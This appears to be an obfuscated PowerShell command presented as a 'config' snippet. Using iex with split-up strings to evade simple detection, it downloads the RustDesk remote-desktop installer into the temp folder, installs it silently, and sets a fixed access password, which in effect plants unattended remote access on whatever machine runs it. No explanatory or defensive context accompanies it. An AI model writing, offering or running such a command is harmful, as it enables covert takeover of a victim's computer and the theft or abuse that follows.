iex ('# config 9807 v3
Invoke-WebRequest ''https://github.com/rustdesk/rustdesk/releases/download/1.2.3/rustd'+'esk-1.2.3-x86_64.exe'' -OutFile "$env:TEMP\rd.exe"
Start-Process "$env:TEMP\rd.exe" -ArgumentList ''--silent-install'' -Wait
& ''C:\Program F'+'iles\RustDesk\rustdesk.exe'' --password '+'''P@ssw0rd!2024''
')